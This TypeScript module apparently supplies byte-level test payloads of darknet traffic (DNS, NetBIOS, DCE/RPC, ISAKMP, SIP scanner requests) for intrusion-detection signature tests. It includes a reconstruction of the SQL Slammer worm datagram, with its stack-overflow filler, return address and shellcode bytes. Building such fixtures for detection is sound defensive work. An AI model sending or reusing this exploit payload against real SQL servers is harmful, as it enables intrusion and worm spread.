/**
 * @module
 * Test payloads of darknet traffic, byte for byte as the protocols (or the
 * malware) put them on the wire, for the bundled rules' positive and negative
 * tests (src/detect/signatures) and the signature benchmark generator.
 */

export const bytes = (...parts: Array<Uint8Array | string | number[]>): Uint8Array =>
  Uint8Array.from(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));

export const hexBytes = (hex: string): Uint8Array => Uint8Array.from(Buffer.from(hex.replace(/\s+/g, ''), 'hex'));

const SLAMMER_LENGTH = 376;

/**
 * A reconstruction of SQL Slammer's datagram: 0x04, the 0x01 filler that
 * overflows the stack, the return address into sqlsort.dll, and the start
 * of the shellcode (pushing "kernel32.dll", "GetTickCount", "ws2_32.dll",
 * "socket", "sendto"), then the `xor ecx, 0x9b040103` of its generator;
 * padded to the worm's 376 bytes.
 */
export function slammerPayload(length = SLAMMER_LENGTH): Uint8Array {
  const head = bytes(
    [0x04],
    new Array<number>(96).fill(0x01),
    hexBytes('dcc9b042 eb0e 01010101010101 70ae4201 70ae42 9090909090909090'),
    hexBytes('68dcc9b042 b801010101 31c9 b118 50 e2fd 3501010105 50 89e5 51'),
    hexBytes('682e646c6c 68656c3332 686b65726e 51 686f756e74 6869636b43 6847657454'),
    hexBytes('66b96c6c 51 6833322e64 687773325f 66b96574 51 68736f636b 66b9746f 51 6873656e64'),
    hexBytes('be1810ae42 8d45d4 50 ff16 50 8d45e0 50 8d45f0 50 ff16 50 be1010ae42 8b1e 8b03'),
    hexBytes('3d558bec51 7405 be1c10ae42 ff16 ffd0 31c9 51 51 50 81f103 01049b 81f101010101'),
  );
  const out = new Uint8Array(length);
  out.set(head.subarray(0, length));
  return out;
}

/** DNS query: id, flags (RD unless given), one question. */
export function dnsQuery(name: string, type: number, klass = 1, flags = 0x0100): Uint8Array {
  const labels = name === '.' ? [] : name.split('.');
  const qname = bytes(...labels.map((l) => bytes([l.length], l)), [0]);
  return bytes([0x12, 0x34, flags >> 8, flags & 0xff, 0, 1, 0, 0, 0, 0, 0, 0], qname, [
    type >> 8,
    type & 0xff,
    klass >> 8,
    klass & 0xff,
  ]);
}

/** NetBIOS name service query for `encodedName` (32 characters, first-level encoded). */
export function netbiosQuery(encodedName: string, type: number): Uint8Array {
  return bytes([0x80, 0x94, 0x00, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0x20], encodedName, [0x00, 0x00, type, 0x00, 0x01]);
}

/** Connectionless DCE/RPC request (80-byte header) for `interfaceUuid` (wire bytes) with a stub. */
export function dceRpcRequest(interfaceUuid: Uint8Array, stub: string): Uint8Array {
  const header = new Uint8Array(80);
  header.set([0x04, 0x00, 0x28, 0x00, 0x10, 0x00, 0x00, 0x00]);
  header.set(interfaceUuid, 24);
  header.set(hexBytes('0a1b2c3d4e5f60718293a4b5c6d7e8f9'), 40);
  header[74] = stub.length & 0xff;
  header[75] = stub.length >> 8;
  return bytes(header, stub);
}

/** Messenger service interface 5a7b91f8-ff00-11d0-a9b2-00c04fb6e6fc, as little-endian DCE/RPC sends it. */
export const MESSENGER_UUID = hexBytes('f8917b5a 00ff d011 a9b2 00c04fb6e6fc');

/** ISAKMP (IKEv1) header and one SA payload whose "next payload" is `next`, then a vendor ID payload when next is 13. */
export function isakmp(firstPayload: number, version: number, next: number): Uint8Array {
  const sa = bytes([next, 0, 0, 12], [0, 0, 0, 1, 0, 0, 0, 1]);
  const vid = next === 13 ? bytes([0, 0, 0, 20], hexBytes('4a131c81070358455c5728f20e95452f')) : new Uint8Array(0);
  const body = bytes(sa, vid);
  const length = 28 + body.length;
  return bytes(
    hexBytes('0011223344556677'),
    new Array<number>(8).fill(0),
    [firstPayload, version, 0x02, 0x00],
    [0, 0, 0, 0],
    [0, 0, length >> 8, length & 0xff],
    body,
  );
}

export function sipRequest(method: string, port = 5060): string {
  return `${method} sip:100@192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:${port};branch=z9hG4bK-1\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=1\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\nCall-ID: 123@198.51.100.7\r\nCSeq: 1 ${method}\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`;
}

/** A 20-byte node id or info hash. */
export const ID20 = bytes(hexBytes('0123456789abcdef0123456789abcdef01234567'));
